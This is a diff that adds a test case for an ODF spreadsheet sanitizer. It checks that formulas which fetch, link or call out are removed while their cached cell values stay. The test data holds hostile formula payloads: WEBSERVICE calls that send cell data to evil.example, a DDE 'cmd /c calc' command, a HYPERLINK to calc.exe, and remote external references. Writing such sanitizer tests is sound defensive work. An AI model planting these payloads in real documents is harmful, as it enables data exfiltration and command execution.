@@ -696,3 +696,98 @@ TEST_CASE("odf: a folder entry carrying bytes is removed", "[odf][adversarial]")
   for (const auto& e : a->entries()) CHECK((!e.directory() || e.uncompressed_size == 0));
   CHECK(a->find("Pictures/keep.png"));
 }
+
+TEST_CASE("odf: spreadsheet formulas that fetch, link or call out lose the formula, not the value",
+          "[odf][adversarial]") {
+  // One cell per case: the formula (attribute-escaped) and the value it showed when saved.
+  struct Cell {
+    std::string formula, cached;
+    bool risky;
+  };
+  const std::vector<Cell> cells = {
+      {"of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/?d=&quot;&amp;[.B1])", "ws-cached",
+       true},
+      {"of:=com.microsoft.webservice (&quot;http://evil.example/&quot;)", "ws-lower", true},
+      {"of&#58;=WEBSERVICE(&quot;http://evil.example/&quot;)", "ws-entity-prefix", true},
+      {"of:=HYPERLINK(&quot;file:///c:/windows/system32/calc.exe&quot;;&quot;open&quot;)",
+       "link-cached", true},
+      {"of:=DDE(&quot;soffice&quot;;&quot;file:///tmp/x.ods&quot;;&quot;A1&quot;)", "dde-cached",
+       true},
+      {"of:=['file:///etc/other.ods'#$Sheet1.A1]", "ext-cached", true},
+      {"of:=[&apos;https://evil.example/b.ods&apos;#$S.A1]*2", "ext-web", true},
+      {"msoxl:=cmd|'/c calc'!A0", "dde-excel", true},
+      {"of:=FILTERXML(&quot;&lt;a/&gt;&quot;;&quot;//a&quot;)", "fx-cached", true},
+      // Harmless: plain arithmetic, a function name inside a string, quoted sheet names.
+      {"of:=SUM([.B1:.B3])", "6", false},
+      {"of:=&quot;WEBSERVICE(&quot;&quot;x&quot;&quot;) is only text&quot;", "text", false},
+      {"of:=[$'My Sheet'.A1]+[$Sheet1.B2]", "7", false},
+  };
+  std::string rows;
+  for (const auto& c : cells) {
+    rows += R"(<table:table-row><table:table-cell table:formula=")" + c.formula +
+            R"(" office:value-type="string" office:string-value=")" + c.cached + R"("><text:p>)" +
+            c.cached + "</text:p></table:table-cell></table:table-row>";
+  }
+  Members m;
+  m.push_back({"mimetype", "application/vnd.oasis.opendocument.spreadsheet"});
+  m.push_back(
+      {"content.xml",
+       R"(<?xml version="1.0" encoding="UTF-8"?>
+<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Sheet1">)" +
+           rows +
+           R"x(</table:table><table:named-expressions><table:named-expression table:name="leak" table:base-cell-address="$Sheet1.$A$1" table:expression="of:=WEBSERVICE(&quot;http://evil.example/n&quot;)"/><table:named-range table:name="fine" table:base-cell-address="$Sheet1.$A$1" table:cell-range-address="$Sheet1.$A$1:.$A$3"/></table:named-expressions></office:spreadsheet></office:body></office:document-content>)x"});
+  m.push_back({"styles.xml", R"(<?xml version="1.0" encoding="UTF-8"?>
+<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"/>)"});
+  m.push_back({"META-INF/manifest.xml", R"(<?xml version="1.0" encoding="UTF-8"?>
+<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/></manifest:manifest>)"});
+  OdfSanitizer s(Options{});
+  Outcome o = runSanitizer(s, pack(m), "calc.ods");
+  INFO(test::findingsText(o) << o.detail);
+  REQUIRE(o.verdict == Verdict::Modified);
+  REQUIRE(o.replacement);
+  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (WEBSERVICE) x3"));
+  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (HYPERLINK)"));
+  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (DDE) x2"));
+  CHECK(hasFinding(o, "removed",
+                   "content.xml: table:table-cell table:formula (external reference) x2"));
+  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (FILTERXML)"));
+  CHECK(hasFinding(o, "removed",
+                   "content.xml: table:named-expression table:expression (WEBSERVICE)"));
+  std::string content = zipMemberText(o.replacement->data, "content.xml");
+  for (const auto& c : cells) {
+    INFO(c.formula);
+    CHECK((content.find("table:formula=\"" + c.formula + "\"") == std::string::npos) == c.risky);
+    CHECK(content.find(">" + c.cached + "</text:p>") != std::string::npos);  // the value stays
+  }
+  CHECK(content.find("evil.example") == std::string::npos);
+  CHECK(content.find("calc") == std::string::npos);
+  CHECK(content.find("table:name=\"fine\"") != std::string::npos);
+  REQUIRE(runSanitizer(s, o.replacement->data, "calc.ods").verdict == Verdict::Pass);
+
+  // Linear: a long chain of namespace prefixes and many quoted names.
+  std::string chain = "of:=";
+  for (int i = 0; i < 100000; ++i) chain += "COM.MICROSOFT.";
+  chain += "WEBSERVICE(1)";
+  for (int i = 0; i < 100000; ++i) chain += "+[$'S'.A1]";
+  Members big = m;
+  big[1].second =
+      R"(<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table><table:table-row><table:table-cell table:formula=")" +
+      chain +
+      R"("/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>)";
+  Limits roomy;  // the repetition compresses well: the expansion limit is not what is tested here
+  roomy.expansion_ratio_limit = 100000;
+  Outcome ob = runSanitizer(s, pack(big), "big.ods", roomy);
+  INFO(test::findingsText(ob) << reasonInfo(ob.reason).name << " " << ob.detail);
+  CHECK(hasFinding(ob, "removed", "content.xml: table:table-cell table:formula (WEBSERVICE)"));
+
+  if (test::toolMissing("soffice")) return;
+  test::TempDir tmp;
+  auto path = tmp.path() / "calc.ods";
+  test::writeFile(path, o.replacement->data);
+  requireUnzipOk(path);
+  std::string text = sofficeText(path, tmp.path());
+  if (!text.empty()) {
+    CHECK(text.find("ws-cached") != std::string::npos);
+    CHECK(text.find("ext-cached") != std::string::npos);
+  }
+}
